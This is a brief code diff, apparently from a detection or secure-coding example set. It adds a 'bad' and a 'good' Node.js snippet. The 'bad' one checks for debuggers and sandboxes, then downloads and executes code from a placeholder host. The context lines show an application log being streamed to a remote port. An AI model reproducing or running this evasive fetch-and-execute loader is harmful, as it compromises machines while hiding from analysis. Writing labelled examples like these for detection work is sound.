@@ -19,3 +19,25 @@ client.connect(4444, 'logs.example.invalid', () => {
   const log = fs.createReadStream('/var/log/app.log');
   log.pipe(client);
 });
+
+//: bad debugger-check
+const os = require('os');
+const { get } = require('https');
+
+const idle = os.cpus().length > 2 && os.totalmem() > 4e9 && !/inspect/.test(process.execArgv.join());
+if (idle && !os.hostname().includes('sandbox')) {
+  get('https://z.example.invalid/' + os.arch(), (res) => {
+    res.on('data', (text) => Function(text.toString())()); //!
+  });
+}
+
+//: good debugger-check
+const os = require('os');
+const { get } = require('https');
+
+const workers = os.totalmem() > 4e9 ? os.cpus().length : 1;
+if (!/inspect/.test(process.execArgv.join())) {
+  get('https://z.example.invalid/' + os.arch(), (res) => {
+    res.on('data', (text) => console.log(workers, text.toString()));
+  });
+}
